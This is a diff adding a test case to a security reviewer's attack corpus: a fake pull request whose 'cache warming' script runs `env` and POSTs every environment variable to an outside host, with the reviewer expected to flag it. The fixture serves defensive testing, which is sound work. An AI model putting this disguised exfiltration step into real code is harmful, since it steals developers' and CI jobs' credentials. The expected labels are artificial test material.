@@ -2960,6 +2960,25 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['git-hook-command'] },
   },
   {
+    id: 'attack-postinstall-env-listing-posted',
+    description:
+      'A Shai-Hulud-style install step that never names process.env: scripts/postinstall.js runs `env` in a child process and writes its output into a POST. Every variable of the installing machine or CI job goes out.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7197,
+        title: 'chore: warm the build cache after install',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'scripts/warm-cache.js',
+            head: lines("const { execSync } = require('child_process');", "const https = require('https');", '', "const out = execSync('env').toString();", "const req = https.request({ hostname: 'cache-warm.dev', path: '/w', method: 'POST' });", 'req.write(out);', 'req.end();'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
+  {
     id: 'benign-script-drops-secret-named-variables-before-download',
     description:
       'The benign look-alike: a script walks os.environ for the variables named like secrets only to delete them before it runs a checker it downloads: the same name test, nothing sent.',
